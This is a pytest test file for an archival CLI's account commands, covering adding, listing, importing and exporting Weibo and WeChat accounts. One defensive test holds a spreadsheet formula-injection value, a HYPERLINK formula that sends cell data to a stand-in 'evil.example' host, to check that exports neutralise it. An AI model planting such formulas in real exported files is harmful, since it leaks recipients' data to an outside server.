"""`weidang accounts` as an archivist uses it: add, list, remove, import, export."""

from __future__ import annotations

import json

from weidang.cli import main

COOKIE = "SUB=_2A25LkDqFDeRhGeFK7VoR9SjJzTuIHXVo5n1NrDV8PUNbmtAGLRfDkW9NQ2vE3uT; SUBP=0033WrSXqPxfM725Ws9"


def test_add_list_remove(home, capsys):
    assert main(["accounts", "add", "weibo:1669879400", "--name", "国家档案局", "--interval", "6h"]) == 0
    assert "Registered weibo:1669879400 (国家档案局); harvested every 6h ± 15m." in (
        capsys.readouterr().out)
    assert main(["accounts", "add", "wechat:MzAxMzgxNzUxOA==", "--name", "某县人民政府", "--source",
                 "backend", "--cron", "30 6 * * *", "--jitter", "5m"]) == 0
    capsys.readouterr()
    assert main(["accounts", "list"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["ACCOUNT", "NAME", "CREDENTIALS", "SOURCE", "SCHEDULE", "NOTES"]
    assert lines[1].startswith("wechat:MzAxMzgxNzUxOA==  某县人民政府  ")
    # Aligned on screen: Chinese characters take two columns, so SCHEDULE starts at one place.
    from weidang.commands.accounts import _width

    starts = {_width(line[: line.index(word)]) for line, word in
              zip(lines, ["SCHEDULE", "cron", "every"], strict=True)}
    assert len(starts) == 1
    assert main(["accounts", "remove", "weibo:1669879400"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("Removed weibo:1669879400 (国家档案局)") and "kept" in out
    assert main(["accounts", "list", "--json"]) == 0
    assert [a["account"] for a in json.loads(capsys.readouterr().out)] == ["wechat:MzAxMzgxNzUxOA=="]
    assert main(["accounts", "list", "--all", "--json"]) == 0
    listed = {a["account"]: a for a in json.loads(capsys.readouterr().out)}
    assert listed["weibo:1669879400"]["active"] is False
    assert listed["weibo:1669879400"]["removed_at"].endswith("Z")
    assert (home / "catalog.sqlite").is_file()


def test_errors_are_one_sentence_and_exit_1(home, capsys):
    for args, expected in [
        (["accounts", "add", "weibo:abc"], "Error: 'abc' is not a valid weibo account id"),
        (["accounts", "add", "weibo:1669879400", "--credentials", COOKIE], "looks like a secret"),
        (["accounts", "remove", "weibo:1669879400"], "Error: weibo:1669879400 is not registered"),
        (["accounts", "import", str(home / "missing.csv")], "does not exist"),
    ]:
        assert main(args) == 1, args
        err = capsys.readouterr().err
        assert expected in err and len(err.strip().splitlines()) == 1 and "Traceback" not in err
        assert "2A25" not in err
    main(["accounts", "add", "weibo:1669879400"])
    capsys.readouterr()
    assert main(["accounts", "add", "weibo:1669879400"]) == 1
    assert "already registered" in capsys.readouterr().err


def test_missing_credentials_are_noted_not_refused(home, capsys):
    assert main(["accounts", "add", "weibo:1669879400", "--credentials", "gov_login"]) == 0
    err = capsys.readouterr().err
    assert err.startswith("Note: No credentials named gov_login") and "credentials.toml" in err
    home.joinpath("credentials.toml").write_text(f'[gov_login]\ncookie = "{COOKIE}"\n')
    home.joinpath("credentials.toml").chmod(0o644)
    assert main(["accounts", "add", "weibo:1234567", "--credentials", "gov_login"]) == 0
    assert "chmod 600" in capsys.readouterr().err
    home.joinpath("credentials.toml").chmod(0o600)
    assert main(["accounts", "add", "weibo:7654321", "--credentials", "gov_login"]) == 0
    assert capsys.readouterr().err == ""
    assert COOKIE.encode() not in (home / "catalog.sqlite").read_bytes()


def test_import_export_by_extension_without_secrets(home, tmp_path, capsys):
    source = tmp_path / "名单.csv"
    source.write_text("账号,名称,凭据\nweibo:1669879400,国家档案局,gov_login\n"
                      "wechat:gh_6bab8b88e75e,示例档案馆,\n", encoding="gbk")
    assert main(["accounts", "import", str(source)]) == 0
    assert "Imported 名单.csv: 2 added, 0 updated, 0 restored, 0 unchanged." in capsys.readouterr().out
    assert main(["accounts", "import", str(source)]) == 0
    assert "0 added, 0 updated, 0 restored, 2 unchanged" in capsys.readouterr().out
    for suffix in ("csv", "toml", "xlsx"):
        out = tmp_path / f"export.{suffix}"
        assert main(["accounts", "export", str(out)]) == 0
        assert f"Wrote 2 accounts to {out}." in capsys.readouterr().out
        assert main(["accounts", "import", str(out)]) == 0
        assert "2 unchanged" in capsys.readouterr().out
    assert "国家档案局" in (tmp_path / "export.toml").read_text(encoding="utf-8")
    bad = tmp_path / "bad.csv"
    bad.write_text("account,credentials\nweibo:1,x\nweibo:1669879400," + COOKIE.replace(";", "") + "\n")
    assert main(["accounts", "import", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "row 2:" in err and "row 3:" in err and "2A25" not in err
    for suffix in ("csv", "toml"):  # the refused login reached neither catalog nor export
        assert main(["accounts", "export", str(tmp_path / f"after.{suffix}")]) == 0
        assert b"2A25" not in (tmp_path / f"after.{suffix}").read_bytes()
    assert main(["accounts", "export", str(tmp_path / "after.xlsx")]) == 0
    from openpyxl import load_workbook

    cells = [str(c) for row in load_workbook(tmp_path / "after.xlsx").active.iter_rows(values_only=True)
             for c in row]
    assert "weibo:1669879400" in cells and not any("2A25" in c for c in cells)
    for part in home.glob("catalog.sqlite*"):  # the database and its write-ahead log
        assert b"2A25" not in part.read_bytes()


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"国家档案局")'


def test_export_never_writes_a_live_formula_and_import_reads_it_back(home, tmp_path, capsys):
    assert main(["accounts", "add", "weibo:1669879400", "--name", FORMULA_NAME, "--notes", "@SUM(1,2)"]) == 0
    assert main(["accounts", "add", "weibo:1234567", "--name", "+86 县档案馆", "--notes", "'-1"]) == 0
    capsys.readouterr()
    from openpyxl import load_workbook

    for suffix in ("csv", "xlsx", "toml"):
        out = tmp_path / f"export.{suffix}"
        assert main(["accounts", "export", str(out)]) == 0
        if suffix == "csv":
            text = out.read_text(encoding="utf-8-sig")
            assert "weibo:1669879400,\"'=HYPERLINK(" in text and ',"\'@SUM(1,2)"' in text
            assert "weibo:1234567,'+86 县档案馆,,,,,,''-1" in text
        if suffix == "xlsx":
            cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
            assert [c.coordinate for c in cells if c.data_type == "f"] == []
            assert "'" + FORMULA_NAME in [c.value for c in cells]
        if suffix == "toml":  # not a spreadsheet: written as it is
            assert "=HYPERLINK(" in out.read_text(encoding="utf-8") and "'=HYPERLINK" not in out.read_text()
        capsys.readouterr()
        assert main(["accounts", "import", str(out)]) == 0
        assert "0 updated, 0 restored, 2 unchanged" in capsys.readouterr().out, suffix
    assert main(["accounts", "list", "--json"]) == 0
    listed = {a["account"]: a for a in json.loads(capsys.readouterr().out)}
    assert (listed["weibo:1669879400"]["name"], listed["weibo:1234567"]["notes"]) == (FORMULA_NAME, "'-1")


def test_a_schedule_out_of_range_is_refused_when_given(home, tmp_path, capsys):
    for args in (["accounts", "add", "weibo:1669879400", "--interval", "99999999999999d"],
                 ["accounts", "add", "weibo:1669879400", "--jitter", "30d"]):
        assert main(args) == 1
        err = capsys.readouterr().err
        assert "is too long; give from" in err and len(err.strip().splitlines()) == 1
    assert main(["accounts", "add", "weibo:1669879400", "--interval", "366d"]) == 0
    assert main(["accounts", "schedule", "weibo:1669879400", "--interval", "99999999999999d"]) == 1
    assert "Error: Interval '99999999999999d' is too long; give from 1s to 366d." in capsys.readouterr().err
    listed = tmp_path / "list.csv"
    listed.write_text("account,interval\nweibo:1234567,99999999999999d\n", encoding="utf-8")
    assert main(["accounts", "import", str(listed)]) == 1
    assert "row 2: interval '99999999999999d' is too long" in capsys.readouterr().err
    assert main(["accounts", "list", "--json"]) == 0
    assert [a["interval_seconds"] for a in json.loads(capsys.readouterr().out)] == [366 * 86400]


def test_an_account_by_its_address_with_a_schedule_in_chinese(home, capsys):
    assert main(["accounts", "add", "https://m.weibo.cn/u/1669879400", "--schedule", "每周一 06:30"]) == 0
    assert "Registered weibo:1669879400; harvested cron 30 6 * * 1" in capsys.readouterr().out
    assert main(["accounts", "schedule", "weibo:1669879400", "--schedule", "每6小时"]) == 0
    assert "weibo:1669879400 is now harvested every 6h" in capsys.readouterr().out
    assert main(["accounts", "schedule", "weibo:1669879400", "--schedule", "每6小时", "--cron",
                 "0 6 * * *"]) != 0


def test_an_import_naming_a_login_not_stored_says_so(home, tmp_path, capsys):
    listing = tmp_path / "list.csv"
    listing.write_text("账号,凭据,计划\nhttps://weibo.com/u/1669879400,missing_login,每天\n",
                       encoding="utf-8")
    assert main(["accounts", "import", str(listing)]) == 0
    out = capsys.readouterr()
    assert "1 added" in out.out and "no login is stored under missing_login" in out.err
